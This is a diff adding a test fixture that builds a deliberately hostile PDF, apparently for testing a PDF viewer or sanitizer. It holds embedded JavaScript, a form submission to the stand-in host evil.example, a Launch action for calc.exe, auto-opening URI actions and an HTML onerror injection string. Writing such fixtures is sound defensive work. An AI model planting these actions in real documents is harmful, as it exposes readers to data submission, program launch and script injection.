@@ -76,3 +76,24 @@ export const scans = {
 
 /** A page whose only image is broken. */
 export const brokenScan = () => jpxPdf(JPEG_2000.subarray(0, 100));
+
+/**
+ * What a PDF can be told to do when it opens and when it is pressed on: scripts, programs, addresses, forms. Its
+ * second page is 2 points wide and 14,400 high.
+ */
+export const hostilePdf = () => {
+  const away = "/URI (https://evil.example/)";
+  const link = (action: string) =>
+    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>`;
+  return pdf(
+    [
+      "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\)) >> /AA << /WC << /S /Launch /F (calc.exe) >> >> >>",
+      "<< /Type /Pages /Count 2 /Kids [3 0 R 4 0 R] >>",
+      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F 6 0 R >> >> /Annots [${link(`/S /URI ${away}`)} ${link("/S /JavaScript /JS (app.alert\\(2\\))")} << /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 595 842] /A << /S /SubmitForm /F ${away.slice(5)} >> >>] /AA << /O << /S /URI ${away} >> >> >>`,
+      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2 14400] /Contents 5 0 R /Resources << /Font << /F 6 0 R >> >> >>",
+      stream("BT /F 40 Tf 56 700 Td (<img src=x onerror=alert\\(3\\)>) Tj ET"),
+      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    ],
+    "hostil.pdf",
+  );
+};
